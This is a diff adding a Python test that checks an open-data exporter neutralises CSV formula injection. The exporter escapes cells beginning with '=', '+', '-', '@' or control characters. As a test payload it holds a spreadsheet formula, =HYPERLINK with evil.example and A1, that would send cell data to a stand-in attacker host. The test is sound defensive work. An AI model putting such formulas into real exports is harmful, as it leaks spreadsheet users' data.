@@ -15,7 +15,7 @@ from test_public_leak import AS_OF, canary_files
 
 from generator import pipeline
 from generator.public import PublicData, project
-from generator.public.opendata import JSON_FILE, SCHEMA, SCHEMA_VERSION, TABLES, files
+from generator.public.opendata import JSON_FILE, SCHEMA, SCHEMA_VERSION, TABLES, files, neutralise
 from generator.site.public import render
 
 DOCS = Path(__file__).resolve().parents[1] / "docs" / "opendata.md"
@@ -142,3 +142,25 @@ def test_suppressed_totals_are_empty_not_zero(tmp_path: Path) -> None:
     assert doc["compliance_by_unit"] == [] and doc["compliance_by_role"] == []
     terms_csv = files(data)["data/terms.csv"].decode("utf-8-sig").splitlines()
     assert terms_csv[1].split(",")[8] == ""  # actors
+
+
+def test_cells_that_spreadsheets_would_run_are_neutralised(tmp_path: Path) -> None:
+    """OWASP CSV injection: a summary =HYPERLINK(…) or a term named =1+2 is text in Excel too."""
+    from helpers import MINI
+
+    calendar = (MINI / "rosters/calendar.yml").read_text(encoding="utf-8").replace("name: 2024—2025学年第一学期", "name: '=1+2'")
+    summary = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    record = (MINI / "records/2024-2025-1/wang-jianguo/2024-10-16-canteen-meal.md").read_text(encoding="utf-8")
+    record = record.replace("summary: 与护理2024级1班同学共进午餐。", f"summary: '{summary}'")
+    repo = write_repo(tmp_path / "repo", {"rosters/calendar.yml": calendar,
+                                          "records/2024-2025-1/wang-jianguo/2024-10-16-canteen-meal.md": record})
+    out = files(project(pipeline.run(repo, AS_OF, use_git=False)))
+    cells = [cell for table in TABLES for row in csv.reader(io.StringIO(out[table.file].decode("utf-8-sig")))
+             for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert [neutralise(x) for x in ("@SUM(A1)", "+1", "-1", "\tx", "\rx", "a=b")] == [
+        "'@SUM(A1)", "'+1", "'-1", "'\tx", "'\rx", "a=b"]
+    assert "'=1+2" in cells
+    assert "'" + summary in cells
+    doc = json.loads(out[JSON_FILE])  # JSON is data, not a spreadsheet: values stay as written
+    assert summary in [e["summary"] for e in doc["catalogue"]]
